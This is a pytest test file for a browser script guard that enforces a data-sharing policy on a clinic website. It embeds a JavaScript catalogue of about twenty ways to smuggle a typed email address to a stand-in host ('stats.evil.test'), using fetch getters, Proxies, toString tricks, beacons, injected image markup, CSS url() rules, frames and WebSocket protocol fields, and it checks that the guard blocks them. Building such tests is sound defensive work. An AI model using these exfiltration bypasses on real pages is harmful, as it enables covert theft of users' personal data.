"""Arguments that say another thing each time they are asked: what was looked at goes out."""

import threading

import pytest
from websockets.exceptions import ConnectionClosed
from websockets.sync.server import serve

from scriptward.app.guard import guard_script
from scriptward.policy.language.reader import parsed

HOST = "stats.evil.test"
SOCKETS = "127.0.0.1"
POLICY = f"""
version: 1
site: www.clinic.test
mode: enforce
defaults: {{"*": forbid}}
recipients:
  stats: {{hosts: [{HOST}, "{SOCKETS}:*"], baa: none}}
scripts:
  - {{match: "/**", approved: {{by: lab, date: 2026-11-01, why: "the page's own"}}}}
rules:
  - {{id: own, permit: [send, read, load], to: self}}
  - {{id: counted, permit: [send, load], to: stats}}
  - {{id: typed, forbid: send, to: stats, data: [email]}}
"""
TYPED = "jane.roe@example.test"
OTHER = "none.said@example.org"
PAGE = (
    "<!doctype html><meta charset=utf-8><script src=/settling-guard.js></script>"
    "<title>Visit</title><link rel=icon href='data:,'><body><input name=email>"
    "<script src=/settling.js></script>"
)
WAYS = """
const post = { method: "POST", mode: "no-cors" };
const says = (toString) => ({ toString });
const sent = (url, body) => {
  const asked = new XMLHttpRequest();
  asked.open("POST", url);
  asked.send(body);
};
const ways = {
  getter: (url, said) => fetch(url, { ...post, get body() { return said; } }),
  inherited: (url, said) => fetch(url, Object.create({ ...post, body: said })),
  "no-keys": (url, said) => fetch(url, new Proxy({ ...post, body: said },
    { ownKeys: () => [], getOwnPropertyDescriptor: () => undefined })),
  headers: (url, said) => fetch(url, { get headers() { return { "x-said": said }; } }),
  iterator: (url, said) => {
    const headers = new Headers();
    headers[Symbol.iterator] = function* () { yield ["x-said", said]; };
    return fetch(url, { headers });
  },
  object: (url, said) => fetch(url, { ...post, body: says(() => said) }),
  list: (url, said) => fetch(url, { ...post, body: [said] }),
  string: (url, said) => fetch(url, { ...post, body: new String(said) }),
  request: (url, said) => fetch(new Request(url, { ...post, get body() { return said; } })),
  address: (url, said) => {
    const at = new URL(url);
    at.toString = () => url + "&d=" + encodeURIComponent(said);
    return fetch(at, post);
  },
  beacon: (url, said) => navigator.sendBeacon(url, says(() => said)),
  xhr: (url, said) => sent(url, says(() => said)),
  reopened: (url, said) => {
    const asked = new XMLHttpRequest();
    asked.open("POST", "/here");
    asked.send(says(() => (asked.open("POST", url), said)));
  },
  markup: (url, said) => {
    document.createElement("p").innerHTML = says(() => `<img src="${url}&d=${said}">`);
  },
  "markup-beside": (url, said) => document.body.insertAdjacentHTML("beforeend",
    says(() => `<img src="${url}&d=${said}">`)),
  trusted: (url, said) => {
    const sure = globalThis.trustedTypes.createPolicy(url, { createHTML: (text) => text });
    document.createElement("p").innerHTML = sure.createHTML(`<img src="${url}&d=${said}">`);
  },
  "new-line": (url, said) => {
    const parted = url.replace("http://", "ht\\ntp://").replace(".", "\\n.");
    document.createElement("p").innerHTML = `<img src="${parted}&d=${said}">`;
  },
  rule: (url, said) => {
    const sheet = new CSSStyleSheet();
    document.adoptedStyleSheets = [sheet];
    sheet.insertRule(says(() => `html { background: url("${url}&d=${said}") }`));
  },
  "typed-value": (url, said) => document.body.attributeStyleMap.set("background-image",
    CSSStyleValue.parse("background-image", `url("${url}&e=${said}")`)),
  frame: (url, said) => {
    const frame = document.createElement("frame");
    frame.src = url + "&d=" + said;
    document.body.append(frame);
  },
};
const tried = async (said, about) => {
  for (const [way, send] of Object.entries(ways))
    try { await send(AT + way + "?" + about, said); } catch {}
};
const names = (all) => ({ *[Symbol.iterator]() { yield* all; } });
const talk = async (url, said) => {
  const hex = [...said].map((letter) => letter.charCodeAt(0).toString(16)).join("");
  for (const protocols of [hex, [hex], names([hex]), undefined])
    await new Promise((done) => {
      const socket = new WebSocket(url, protocols ?? []);
      socket.onopen = () => socket.close(3001, protocols ? "" : said);
      socket.onclose = done;
    });
};
"""
NAMES = (
    *("getter", "inherited", "no-keys", "object", "list", "string", "request"),
    *("headers", "iterator", "address", "beacon", "xhr", "reopened", "markup", "markup-beside"),
    *("trusted", "new-line", "rule", "typed-value", "frame"),
)


@pytest.fixture(scope="module")
def visit(chromium, site):
    """A page on which the address was typed."""
    site.files["/settling-guard.js"] = guard_script(parsed(POLICY), headers=True)
    site.files["/settling.js"] = f"const AT = 'http://{HOST}/';{WAYS}".encode()
    site.files["/settling"] = PAGE.encode()
    site.reached.clear()
    context = chromium.new_context()
    page = context.new_page()
    page.goto("http://www.clinic.test/settling")
    page.fill("input", TYPED)
    yield page
    context.close()


@pytest.fixture(scope="module")
def reached(visit, site):
    """Paths asked for: each way with another text, and with what was typed."""
    visit.evaluate(f"tried('{OTHER}', 'other')")
    visit.evaluate(f"tried('{TYPED}', 'typed')")
    visit.wait_for_load_state("networkidle")
    return {path.strip("/").partition("&")[0] for path in site.reached}


@pytest.mark.parametrize("way", NAMES)
def test_what_was_looked_at_is_what_goes_out(reached, way):
    assert f"{way}?other" in reached
    assert f"{way}?typed" not in reached


def test_a_call_that_cannot_be_read_fails_as_it_would(visit):
    failed = "{ get body() { throw new RangeError('mine') } }"

    assert visit.evaluate(f"fetch('/', {failed}).catch(String)") == "RangeError: mine"
    assert visit.evaluate("fetch('/', { headers: { 'a b': '' } }).catch((e) => e.name)") == (
        "TypeError"
    )


def test_protocols_and_reasons_of_sockets_take_nothing_along(visit):
    heard: list[str] = []

    def hear(connection) -> None:
        heard.append(connection.request.headers.get("sec-websocket-protocol", ""))
        try:
            connection.recv()
        except ConnectionClosed as closed:
            heard.append(closed.rcvd.reason if closed.rcvd else "")

    def any_of(_connection, offered):
        return offered[0] if offered else None

    with serve(hear, SOCKETS, 0, select_subprotocol=any_of) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        url = f"ws://{SOCKETS}:{server.socket.getsockname()[1]}/"
        told = []
        for text in (OTHER, TYPED):
            heard.clear()
            visit.evaluate(f"talk('{url}', '{text}')")
            visit.wait_for_timeout(500)  # the last connection's end is heard behind the page's
            told.append(list(heard))
        server.shutdown()

    said = OTHER.encode().hex()
    assert told == [[said, "", said, "", said, "", "", OTHER], ["", ""]]
